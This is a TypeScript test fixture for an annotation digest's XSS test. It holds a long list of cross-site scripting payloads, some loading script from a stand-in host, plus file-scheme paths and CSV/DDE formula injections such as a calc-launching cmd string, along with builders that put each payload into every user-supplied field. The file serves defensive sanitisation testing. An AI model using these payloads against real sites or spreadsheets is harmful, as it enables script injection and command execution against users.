/**
 * Hostile text for the digest's XSS test (`xss.test.ts`): classic cheat-sheet vectors, Markdown
 * and GFM tricks (links, images, reference links, autolinks, entities, backslashes), HTML
 * comments and CDATA, Unicode look-alikes, zero-width and bidi characters, spreadsheet
 * formulas; and the digest fields each payload is put in. Test code only.
 */
import { ANNO_CONTEXT, LEA_CONTEXT, type LeaAnnotation } from '../model/annotation';
import type { LeaReply, LeaSupport } from '../model/conversation';
import type { Perspective } from '../model/vocabulary';
import type { DigestInput } from './types';

/** One hostile string and a short name to report it by. */
export interface XssCase {
  name: string;
  payload: string;
}

const IMG = '<img src=x onerror=alert(1)>';

// prettier-ignore
const RAW: [string, string][] = [
  // Classic HTML vectors (OWASP XSS filter evasion cheat sheet style).
  ['script tag', '<script>alert(1)</script>'],
  ['script src', '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>'],
  ['img javascript src', `<IMG SRC="javascript:alert('XSS');">`],
  ['img unquoted javascript', "<IMG SRC=javascript:alert('XSS')>"],
  ['img mixed case scheme', "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ['img backtick src', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['a onmouseover', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['malformed img script', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ['img hash onmouseover', `<IMG SRC=# onmouseover="alert('xxs')">`],
  ['img empty src onmouseover', `<IMG SRC= onmouseover="alert('xxs')">`],
  ['img no src', `<IMG onmouseover="alert('xxs')">`],
  ['img onerror fromCharCode', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ['img onerror padded decimal entities', '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">'],
  ['img decimal entity scheme', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>'],
  ['img hex entity scheme', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>'],
  ['img embedded tab', '<IMG SRC="jav\tascript:alert(1);">'],
  ['img encoded tab', '<IMG SRC="jav&#x09;ascript:alert(1);">'],
  ['img encoded newline', '<IMG SRC="jav&#x0A;ascript:alert(1);">'],
  ['img leading spaces and meta', '<IMG SRC=" &#14;  javascript:alert(1);">'],
  ['script slash attribute', '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>'],
  ['body onload punctuation', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['no closing script tag', '<SCRIPT SRC=http://xss.example/xss.js?< B >'],
  ['half open img', '<IMG SRC="`<javascript:alert>`(1)"'],
  ['end title', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['input image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ['body background', `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ['svg onload', "<svg/onload=alert('XSS')>"],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg animate href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>'],
  ['iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['embed data url', '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
  ['form action', '<form action="javascript:alert(1)"><button>go</button></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['math mxss', `<math><mtext><table><mglyph><style>${IMG}`],
  ['noscript mxss', `<noscript><p title="</noscript>${IMG}">`],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['audio onerror', '<audio src=x onerror=alert(1)>'],
  ['body onload', '<body onload=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['style import', "<style>@import'javascript:alert(1)';</style>"],
  ['style attribute url', '<div style="background-image:url(javascript:alert(1))">x</div>'],
  ['link stylesheet', '<link rel=stylesheet href="javascript:alert(1)">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="javascript:alert(1)//">'],
  ['a javascript href', '<a href="javascript:alert(1)">click</a>'],
  ['a entity scheme href', '<a href="&#x6A;avascript:alert(1)">click</a>'],
  ['a https with onclick', '<a href="https://e.com" onclick="alert(1)">ok</a>'],
  ['b onmouseover', '<b onmouseover=alert(1)>bold</b>'],
  ['custom element onclick', '<x onclick=alert(1)>click me'],
  ['template img', `<template>${IMG}</template>`],
  ['select autofocus', '<select autofocus onfocus=alert(1)>'],
  ['textarea autofocus', '<textarea autofocus onfocus=alert(1)>'],
  ['keygen autofocus', '<keygen autofocus onfocus=alert(1)>'],
  ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
  ['img eval src', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['img tracking pixel', '<img src="https://e.com/pixel.gif">'],
  ['unclosed img', '<img src=x onerror=alert(1)'],
  ['multi-line img', '<img\nsrc=x\nonerror=alert(1)>'],
  ['img self-closing comment', '<img src=x onerror=alert(1)//>'],
  ['nested script split', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['mixed case script', '<sCrIpT>alert(1)</ScRiPt>'],
  ['details summary img', `<details><summary>x</summary>${IMG}</details>`],
  ['html block with markdown', `<div>\n\n*x* ${IMG}\n\n</div>`],
  // Breaking out of an attribute, a raw-text element or a comment around the field.
  ['double quote breakout', '"><script>alert(1)</script>'],
  ['single quote breakout', `'>${IMG}`],
  ['attribute injection double', '" onmouseover="alert(1)'],
  ['attribute injection single', "' onmouseover='alert(1)"],
  ['textarea breakout', '</textarea><script>alert(1)</script>'],
  ['style breakout', '</style><script>alert(1)</script>'],
  ['title breakout', '</title><script>alert(1)</script>'],
  ['json script breakout', '</script><script>alert(1)</script>'],
  ['comment breakout', '--><script>alert(1)</script>'],
  ['cdata breakout', ']]><script>alert(1)</script>'],
  // HTML comments, CDATA, processing instructions, declarations.
  ['img inside comment', `<!--${IMG}-->`],
  ['empty comment then img', `<!-- -->${IMG}`],
  ['comment across lines', '<!--\n--><script>alert(1)</script>'],
  ['cdata img', `<![CDATA[${IMG}]]>`],
  ['processing instruction', `<?xml version="1.0"?>${IMG}`],
  ['doctype', `<!DOCTYPE html>${IMG}`],
  ['hidden link in comment', '[x](https://e.com) <!-- [y](javascript:alert(1)) -->'],
  // Dangerous schemes as plain text (a source, a scope or a bare word).
  ['javascript scheme', 'javascript:alert(1)'],
  ['javascript upper case', 'JaVaScRiPt:alert(1)'],
  ['vbscript scheme', 'vbscript:msgbox("XSS")'],
  ['data html', 'data:text/html,<script>alert(1)</script>'],
  ['data base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['file scheme', 'file:///etc/passwd'],
  ['leading space javascript', ' javascript:alert(1)'],
  ['control char javascript', '\u0001javascript:alert(1)'],
  ['entity hex scheme', 'jav&#x61;script:alert(1)'],
  ['entity decimal scheme', 'jav&#97;script:alert(1)'],
  ['entity colon', 'javascript&colon;alert(1)'],
  ['nul in scheme', 'java\u0000script:alert(1)'],
  ['zero-width in scheme', 'java\u200bscript:alert(1)'],
  ['fullwidth scheme', 'ｊａｖａｓｃｒｉｐｔ：alert(1)'],
  ['protocol relative', '//e.com/x'],
  ['https then javascript', 'https:javascript:alert(1)'],
  ['mailto', 'mailto:someone@e.com?subject=<img src=x onerror=alert(1)>'],
  // Markdown links and images.
  ['md javascript link', '[x](javascript:alert(1))'],
  ['md upper javascript link', '[x](JAVASCRIPT:alert(1))'],
  ['md entity colon link', '[x](javascript&#58;alert(1))'],
  ['md entity scheme link', '[x](jav&#x61;script:alert(1))'],
  ['md angle javascript link', '[x](<javascript:alert(1)>)'],
  ['md spaced javascript link', '[x]( javascript:alert(1) )'],
  ['md vbscript link', '[x](vbscript:msgbox(1))'],
  ['md data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['md file link', '[x](file:///etc/passwd)'],
  ['md backslash scheme link', '[x](java\\script:alert(1))'],
  ['md image onerror', '![x](x" onerror="alert(1))'],
  ['md image javascript', '![x](javascript:alert(1))'],
  ['md image remote', '![x](https://e.com/pixel.png)'],
  ['md image empty alt', '![](https://e.com/pixel.gif)'],
  ['md image title breakout', '![x](https://e.com/x.png "t\\" onerror=\\"alert(1)")'],
  ['md link title breakout', '[x](https://e.com/ "a\\" onmouseover=\\"alert(1)")'],
  ['md link title html', `[x](https://e.com "${IMG}")`],
  ['md link then javascript', '[x](https://e.com)[y](javascript:alert(1))'],
  ['md nested brackets', '[[x](javascript:alert(1))](https://e.com)'],
  ['md image in javascript link', '[![x](javascript:alert(1))](javascript:alert(1))'],
  ['md link text html', `[${IMG}](https://e.com)`],
  ['md https link quote breakout', '[x](https://e.com/"onmouseover="alert(1))'],
  ['md reference link', '[x][1]\n\n[1]: javascript:alert(1)'],
  ['md reference definition first', '[1]: javascript:alert(1)\n\n[x][1]'],
  ['md shortcut reference', '[x]\n\n[x]: <javascript:alert(1)>'],
  ['md footnote', `[^1]\n\n[^1]: ${IMG}`],
  ['md bang before link', '!![x](https://e.com/pixel.gif)'],
  // pandoc's extensions: attributes on headings, links and code, raw HTML, fenced divs.
  ['pandoc heading attribute', '# Title {onclick=alert(1)}'],
  ['pandoc raw html code', `\`${IMG}\`{=html}`],
  ['pandoc link attribute', '[x](https://e.com){onclick=alert(1)}'],
  ['pandoc span attribute', 'text {onmouseover=alert(1)}'],
  ['pandoc fenced div', '::: {onclick=alert(1)}\nx\n:::'],
  ['pandoc raw block', `\`\`\`{=html}\n${IMG}\n\`\`\``],
  // Autolinks.
  ['autolink javascript', '<javascript:alert(1)>'],
  ['autolink nested img', '<https://e.com/<img src=x onerror=alert(1)>>'],
  ['autolink quote breakout', '<http://e.com/"onmouseover="alert(1)>'],
  ['autolink entity', '<https://e.com/?a=1&lt;img&gt;>'],
  ['autolink email img', '<a@e.com><img src=x onerror=alert(1)>'],
  ['bare url img (the finding)', 'See https://e.com/<img src=x onerror=alert(1)//>'],
  ['bare url img', `https://e.com/${IMG}`],
  ['bare url backslash img', 'http://e.com/\\<img src=x onerror=alert(1)//\\>'],
  ['bare url entity img', 'https://e.com/&lt;img src=x onerror=alert(1)&gt;'],
  ['bare url quote breakout', 'http://e.com/"><img src=x onerror=alert(1)>'],
  ['bare url fragment img', `https://e.com/#${IMG}`],
  ['bare url credentials img', `https://user:pass@e.com/${IMG}`],
  ['bare url upper case svg', 'HTTPS://E.COM/<svg onload=alert(1)>'],
  ['www svg', 'www.e.com/<svg onload=alert(1)>'],
  ['www no slash img', `www.e.com${IMG}`],
  ['email img', `a@e.com${IMG}`],
  ['xmpp img', `xmpp:a@e.com/${IMG}`],
  ['ftp img', `ftp://e.com/${IMG}`],
  ['url in attribute-like text', '<a href="https://e.com">https://e.com/<img src=x onerror=alert(1)></a>'],
  // Entities and backslashes.
  ['entity img', '&lt;img src=x onerror=alert(1)&gt;'],
  ['numeric entity img', '&#60;img src=x onerror=alert(1)&#62;'],
  ['double encoded img', '&amp;lt;img src=x onerror=alert(1)&amp;gt;'],
  ['backslash img', '\\<img src=x onerror=alert(1)\\>'],
  ['double backslash img', `\\\\${IMG}`],
  ['trailing backslash', `x\\`],
  // Markdown block structure around HTML.
  ['code span img', `\`${IMG}\``],
  ['fenced script', '```\n<script>alert(1)</script>\n```'],
  ['tilde fence breakout', `~~~\n</code></pre>${IMG}\n~~~`],
  ['indented script', '    <script>alert(1)</script>'],
  ['quote img', `> ${IMG}`],
  ['list img', `- ${IMG}`],
  ['heading img', `# ${IMG}`],
  ['setext heading img', `Title\n===\n${IMG}`],
  ['table img', `| a | b |\n|---|---|\n| ${IMG} | x |`],
  ['task list img', `- [ ] task ${IMG}`],
  ['bold img', `**${IMG}**`],
  ['italic img', `_${IMG}_`],
  ['strike img', `~~${IMG}~~`],
  ['hard break then img', `line  \n${IMG}`],
  // Unicode tricks.
  ['zero-width in tag', '<img\u200bsrc=x onerror=alert(1)>'],
  ['rtl override img', `\u202e${IMG}`],
  ['bom script', '\ufeff<script>alert(1)</script>'],
  ['nul in tag', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['line separator script', '\u2028<script>alert(1)</script>\u2029'],
  ['fullwidth brackets', '＜script＞alert(1)＜/script＞'],
  ['small less-than', '﹤script﹥alert(1)﹤/script﹥'],
  ['combining over bracket', '<\u0338img src=x onerror=alert(1)>'],
  // Template and formula injection.
  ['template expression', "{{constructor.constructor('alert(1)')()}}"],
  ['js template literal', '${alert(1)}'],
  ['csv hyperlink formula', '=HYPERLINK("javascript:alert(1)","Click")'],
  ['csv plus dde', "+cmd|' /C calc'!A0"],
  ['csv minus formula', "-2+3+cmd|' /C calc'!A0"],
  ['csv at formula', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['csv tab formula', '\t=1+1'],
  ['csv cr formula', '\r=1+1'],
  ['csv lf formula', '\n=1+1'],
  ['csv fullwidth equals', '＝1+1'],
];

/** The payloads, each with a unique name. */
export const XSS_CASES: XssCase[] = RAW.map(([name, payload]) => ({ name, payload }));

/** Where a payload goes: a name and how to build a digest input carrying it in that field. */
export interface XssField {
  name: string;
  /** A plain-text field (not light Markdown): its text must read exactly as typed. */
  literal: boolean;
  input(payload: string): DigestInput;
}

/** A document address that is nothing special. */
export const SAFE_SOURCE = 'https://www.legislation.gov.uk/ukpga/2014/23/part/1/enacted';

/** A well-formed, shared, named comment with nothing unusual in it; `n` makes ids unique. */
export function plainAnnotation(n = 1): LeaAnnotation {
  return {
    '@context': [ANNO_CONTEXT, { ...LEA_CONTEXT }],
    id: `urn:uuid:0190c7a0-0000-7000-8000-${String(n).padStart(12, '0')}`,
    type: 'Annotation',
    motivation: 'commenting',
    created: '2026-10-01T09:00:00.000Z',
    modified: '2026-10-01T09:00:00.000Z',
    creator: { type: 'Person', name: 'Aisha Khan' },
    body: [
      { type: 'TextualBody', purpose: 'commenting', format: 'text/markdown', value: 'A plain comment.' },
      { type: 'TextualBody', purpose: 'tagging', value: 'Workforce' },
    ],
    target: {
      source: SAFE_SOURCE,
      selector: [
        { type: 'TextQuoteSelector', exact: 'a plain passage', prefix: '', suffix: '' },
        { type: 'TextPositionSelector', start: 10, end: 25 },
      ],
    },
    perspective: 'carer',
    visibility: 'group',
    attribution: 'named',
    section: '1 Promoting individual well-being',
    documentTitle: 'Care Act 2014',
  };
}

/** The annotation with another comment text (its themes kept). */
export function withCommentText(annotation: LeaAnnotation, value: string): LeaAnnotation {
  const [comment, ...themes] = annotation.body;
  return { ...annotation, body: [{ ...comment, value }, ...themes] };
}

const GENERATED_AT = new Date('2026-11-23T10:00:00Z');

/** What a thread's replies carry, each field optional (the rest stays plain). */
export interface ThreadPayload {
  replyText?: string;
  replierName?: string;
  answerText?: string;
  answererRole?: string;
}

const replyId = (n: number) => `urn:uuid:0190c7a0-0000-7000-8000-${String(5000 + n).padStart(12, '0')}`;

function plainReply(n: number, target: string, text: string, name: string, answer?: { text: string; role: string }): LeaReply {
  const stamp = `2026-10-0${2 + n}T09:00:00.000Z`;
  return {
    '@context': [ANNO_CONTEXT, { ...LEA_CONTEXT }],
    id: replyId(n),
    type: 'Annotation',
    motivation: 'replying',
    created: stamp,
    modified: stamp,
    creator: { type: 'Person', name, ...(answer ? { jobTitle: answer.role, organisation: answer.role } : {}) },
    body: answer
      ? [{ type: 'TextualBody', purpose: 'commenting', format: 'text/markdown', value: answer.text }, { type: 'TextualBody', purpose: 'assessing', value: 'not-changing' }]
      : [{ type: 'TextualBody', purpose: 'commenting', format: 'text/markdown', value: text }],
    target,
    visibility: 'group',
    attribution: 'named',
  };
}

/**
 * The conversation of comment 1: a reply, a reply to it, a reply to that (shown flattened,
 * "in reply to" the second's writer), a support, and an answer when an answer field is given
 * (otherwise the comment is listed as not answered yet, with an excerpt of its text).
 */
export function threadOf(p: ThreadPayload = {}): { conversation: (LeaReply | LeaSupport)[] } {
  const comment = plainAnnotation().id;
  const text = p.replyText ?? 'A plain reply.';
  const name = p.replierName ?? 'Tom Evans';
  const replies = [plainReply(1, comment, text, name), plainReply(2, replyId(1), text, name), plainReply(3, replyId(2), text, name)];
  if (p.answerText !== undefined || p.answererRole !== undefined) {
    replies.push(plainReply(4, comment, '', p.replierName ?? 'Sam Lee', { text: p.answerText ?? 'Not in this Act.', role: p.answererRole ?? 'Policy officer' }));
  }
  const support: LeaSupport = {
    '@context': [ANNO_CONTEXT, { ...LEA_CONTEXT }],
    id: replyId(9),
    type: 'Annotation',
    motivation: 'assessing',
    created: '2026-10-09T09:00:00.000Z',
    modified: '2026-10-09T09:00:00.000Z',
    body: [{ type: 'TextualBody', purpose: 'assessing', value: 'me-too' }],
    target: comment,
    visibility: 'group',
    attribution: 'anonymous',
  };
  return { conversation: [...replies, support] };
}

function withAnnotation(change: (a: LeaAnnotation) => LeaAnnotation, extra: Partial<DigestInput> = {}): DigestInput {
  // Every field's digest has a thread, so unanswered lists and counts show each field too.
  return { annotations: [{ annotation: change(plainAnnotation()) }], ...threadOf(), scope: 'group', generatedAt: GENERATED_AT, groupName: 'NCAG', ...extra };
}

const setSelector = (a: LeaAnnotation, exact: string): LeaAnnotation => ({
  ...a,
  target: { ...a.target, selector: [{ type: 'TextQuoteSelector', exact, prefix: '', suffix: '' }, { type: 'TextPositionSelector', start: 10, end: 10 + exact.length }] },
});
const setTheme = (a: LeaAnnotation, value: string): LeaAnnotation => ({ ...a, body: [a.body[0], { type: 'TextualBody', purpose: 'tagging', value }] });

/** Every place user-supplied text reaches a digest (see types.ts and build-digest.ts). */
export const XSS_FIELDS: XssField[] = [
  { name: 'comment text', literal: false, input: (p) => withAnnotation((a) => withCommentText(a, p)) },
  { name: 'document title', literal: true, input: (p) => withAnnotation((a) => a, { documents: [{ url: SAFE_SOURCE, title: p }] }) },
  { name: 'recorded document title', literal: true, input: (p) => withAnnotation((a) => ({ ...a, documentTitle: p })) },
  { name: 'theme', literal: true, input: (p) => withAnnotation((a) => setTheme(a, p)) },
  { name: 'creator name', literal: true, input: (p) => withAnnotation((a) => ({ ...a, creator: { type: 'Person', name: p } })) },
  { name: 'quote', literal: true, input: (p) => withAnnotation((a) => setSelector(a, p)) },
  { name: 'source', literal: true, input: (p) => withAnnotation((a) => ({ ...a, target: { ...a.target, source: p } })) },
  { name: 'scope (document address)', literal: true, input: (p) => withAnnotation((a) => ({ ...a, target: { ...a.target, scope: p } })) },
  { name: 'section heading', literal: true, input: (p) => withAnnotation((a) => ({ ...a, section: p })) },
  { name: 'group name', literal: true, input: (p) => withAnnotation((a) => a, { groupName: p }) },
  { name: 'theme filter', literal: true, input: (p) => withAnnotation((a) => setTheme(a, p.trim()), { filters: { theme: p } }) },
  { name: 'document filter', literal: true, input: (p) => withAnnotation((a) => ({ ...a, target: { ...a.target, source: p } }), { filters: { document: p } }) },
  // The store checks perspectives against a list; the digest shows an unknown one as it is.
  { name: 'perspective', literal: true, input: (p) => withAnnotation((a) => ({ ...a, perspective: p as Perspective })) },
  // The conversation (issue 12): replies at three depths, an answer, the people who wrote them.
  { name: 'reply text', literal: false, input: (p) => withAnnotation((a) => a, threadOf({ replyText: p })) },
  { name: 'replier name', literal: true, input: (p) => withAnnotation((a) => a, threadOf({ replierName: p })) },
  { name: 'answer text', literal: false, input: (p) => withAnnotation((a) => a, threadOf({ answerText: p })) },
  { name: 'answerer job title and organisation', literal: true, input: (p) => withAnnotation((a) => a, threadOf({ answererRole: p })) },
];

/** Every field at once holding the same payload (one digest per payload). */
export function everyField(payload: string): DigestInput {
  let a = plainAnnotation();
  a = { ...withCommentText(a, payload), creator: { type: 'Person', name: payload }, section: payload, documentTitle: payload };
  a = setTheme(setSelector(a, payload), payload.trim());
  a = { ...a, target: { ...a.target, source: payload, scope: payload }, perspective: payload as Perspective };
  // A second comment, not answered: listed with an excerpt of its text.
  const unanswered = { ...withCommentText(plainAnnotation(2), payload), target: a.target, body: a.body.map((b, i) => (i === 0 ? { ...b, value: payload } : b)) as LeaAnnotation['body'] };
  return {
    annotations: [{ annotation: a }, { annotation: unanswered }],
    ...threadOf({ replyText: payload, replierName: payload, answerText: payload, answererRole: payload }),
    scope: 'group',
    generatedAt: GENERATED_AT,
    groupName: payload,
    filters: { theme: payload, document: payload },
  };
}
